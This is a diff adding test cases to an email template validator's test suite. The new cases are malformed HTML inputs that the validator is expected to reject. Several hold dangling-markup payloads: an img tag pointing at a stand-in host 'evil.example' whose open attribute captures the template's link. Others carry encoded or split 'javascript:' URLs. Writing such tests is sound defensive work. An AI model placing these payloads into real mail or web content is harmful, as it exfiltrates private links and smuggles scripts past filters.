@@ -49,6 +49,31 @@ describe('a template', () => {
     ['a tag that does not end', { html: '{{link}} <a href="x' }, 'html 9: this is no tag that ends'],
     ['a comment that does not end', { html: '{{link}} <!-- ' }, 'html 9: this comment does not end'],
     ['a placeholder in a comment', { html: '{{link}}<!-- {{name}} -->' }, 'html 8: a placeholder in a comment'],
+    // What follows hides a tag from this reader that mail programs see, and whose attribute swallows the link.
+    ['a quote in no value', { html: `<p x"><img src='https://evil.example/?">{{link}}<p title="'">` }, 'html 0: this is no tag'],
+    [
+      'a quote in a value without quotes',
+      { html: `<p x=y"><img src='https://evil.example/?">{{link}}<p title="'">` },
+      'html 0: this is no tag',
+    ],
+    ['a sign before a value', { html: `<p =">"><img src='https://evil.example/?">{{link}}<p title="'">` }, 'html 0: this is no tag'],
+    [
+      'a tag in a value',
+      { html: `<title><p id="</title><img src='https://evil.example/?">{{link}}<p title="'">` },
+      'html 7: this is no tag',
+    ],
+    [
+      'a comment that ends early',
+      { html: `<!-- --!><img src='https://evil.example/? -->{{link}}<p title="'">` },
+      'html 0: a comment holds no tags',
+    ],
+    ['a comment that some programs read', { html: `{{link}}<!--[if mso]><b>x</b><![endif]-->` }, 'html 8: a comment holds no tags'],
+    [
+      'an address that runs, in other letters',
+      { html: '{{link}}<a href="&#106;ava&#x73;cript&colon;x()">' },
+      'html 8: a mail runs no scripts',
+    ],
+    ['an address that runs, in pieces', { html: '{{link}}<a href=" java\nscr&Tab;ipt:x()">' }, 'html 8: a mail runs no scripts'],
   ])('is refused for %s, and told where', (_, change, fault) => {
     expect(faultsOf(change)).toEqual(expect.arrayContaining([expect.stringContaining(`MAIL_TEMPLATE_INVALID in ${fault}`)]));
   });
